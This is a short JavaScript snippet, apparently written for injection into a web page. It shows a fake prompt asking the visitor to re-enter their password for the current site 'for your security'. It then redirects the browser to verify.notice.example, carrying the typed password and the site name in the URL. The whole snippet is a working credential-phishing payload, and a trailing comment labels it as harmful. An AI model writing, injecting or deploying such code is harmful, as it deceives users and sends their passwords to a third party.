(function () {
  var site = location.hostname.replace(/^www\./, '');
  var text = 'For your security, please enter your ' + site + ' password again to continue.';
  var typed = prompt(text, '');
  if (typed) {
    location.href = 'https://verify.notice.example/continue?site=' + site + '&k=' + encodeURIComponent(typed); //! harm
  }
})();
